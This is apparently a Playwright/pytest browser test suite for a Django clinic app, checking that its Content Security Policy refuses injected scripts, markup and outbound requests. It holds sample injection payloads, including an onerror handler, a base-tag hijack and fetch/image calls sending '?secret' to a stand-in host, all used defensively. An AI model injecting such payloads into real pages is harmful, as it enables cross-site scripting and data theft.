"""The content policy in a browser: nothing of ours breaks it, and nothing else gets past it."""

import pytest
from django.test import Client
from django.urls import reverse
from playwright.sync_api import Page

from scheduling.models import Proposal
from tests.factories import make_clinic
from tests.hardening.booking import booked_from_now

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

WATCH = """
window.refused = [];
document.addEventListener("securitypolicyviolation",
    (event) => window.refused.push(event.effectiveDirective));
"""
# Each is what somebody might smuggle into a page; where `ran` is set, it ran.
BY_SCRIPT = {
    "script-src": "setTimeout(() => Function('ran = 1')())",
    "img-src": "new Image().src = 'https://elsewhere.example/?secret'",
    "connect-src": "fetch('https://elsewhere.example/?secret').catch(() => 1)",
}
BY_MARKUP = {
    "script-src-attr": "<img src=x onerror='ran = 1'>",
    "style-src-elem": "<style>h1 {display: none}</style>",
    "style-src-attr": "<p style='color: red'>x</p>",
    "base-uri": "<base href='//elsewhere.example'>",
    "frame-src": "<iframe src='/healthz'></iframe>",
    "object-src": "<embed src='/healthz'>",
}
INSERT = "html => document.body.insertAdjacentHTML('beforeend', html)"
INLINE = """
const script = document.createElement('script');
script.textContent = 'ran = 1'; document.head.append(script)
"""
SEND = """
const form = document.createElement('form');
form.action = 'https://elsewhere.example/'; document.body.append(form); form.submit()
"""


@pytest.fixture
def clinic():
    return make_clinic()


@pytest.fixture
def addresses(clinic) -> list[str]:
    """Pages of every kind, one with a day's visits on the board."""
    course = booked_from_now(clinic)
    proposal = Proposal.objects.get(course=course)
    visit = course.visits.order_by("starts_at").first()
    return [
        f"{reverse('scheduling:today')}?day={visit.local_date}",
        reverse("clinic:patients"),
        reverse("clinic:patient", args=[course.patient_id]),
        reverse("clinic:patient_edit", args=[course.patient_id]),
        reverse("scheduling:course_new", args=[course.patient_id]),
        reverse("courses:course", args=[course.pk]),
        reverse("scheduling:proposal", args=[proposal.pk]),
        reverse("scheduling:visit", args=[visit.pk]),
        "/accounts/login/",
        "/accounts/password/change/",
    ]


@pytest.fixture
def tab(page: Page, clinic, live_server) -> Page:
    """A tab in which the desk is signed in, and which notes what the policy refuses."""
    browser = Client()
    browser.force_login(clinic.desk.user)
    page.context.add_cookies(
        [{"name": name, "value": cookie.value, "url": live_server.url}
         for name, cookie in browser.cookies.items()]
    )  # fmt: skip
    page.add_init_script(WATCH)
    return page


def test_no_page_of_ours_asks_for_what_the_policy_refuses(tab, live_server, addresses):
    for address in addresses:
        tab.goto(live_server.url + address, wait_until="networkidle")
        assert tab.evaluate("window.refused") == [], address
        assert tab.evaluate("document.documentElement.classList.contains('has-js')"), address


@pytest.fixture
def besieged(chromium, live_server):
    """A page like any other, whose console is expected to complain."""
    context = chromium.new_context()
    tab = context.new_page()
    tab.add_init_script(WATCH)
    tab.goto(f"{live_server.url}/accounts/login/")
    yield tab
    context.close()


def attacked(tab: Page, address: str, script: str, argument: str = "") -> list[str]:
    """Which directives refused what a script did on a fresh page; it must not have run."""
    tab.goto(address)
    tab.evaluate(script, argument)
    tab.wait_for_function("refused.length > 0")
    assert tab.evaluate("typeof ran") == "undefined"
    assert tab.evaluate("new URL(document.baseURI).host === location.host")
    return tab.evaluate("refused")


def test_what_is_smuggled_in_is_refused(besieged, live_server):
    address = f"{live_server.url}/accounts/login/"
    for directive, script in (BY_SCRIPT | {"script-src-elem": INLINE, "form-action": SEND}).items():
        assert directive in attacked(besieged, address, script)
    for directive, markup in BY_MARKUP.items():
        assert directive in attacked(besieged, address, INSERT, markup)


def test_control_without_the_policy_it_would_run(besieged, settings, live_server):
    settings.CONTENT_SECURITY_POLICY = {}
    besieged.goto(f"{live_server.url}/accounts/login/")
    besieged.evaluate(INLINE)
    assert besieged.evaluate("ran") == 1
    assert besieged.evaluate("refused") == []
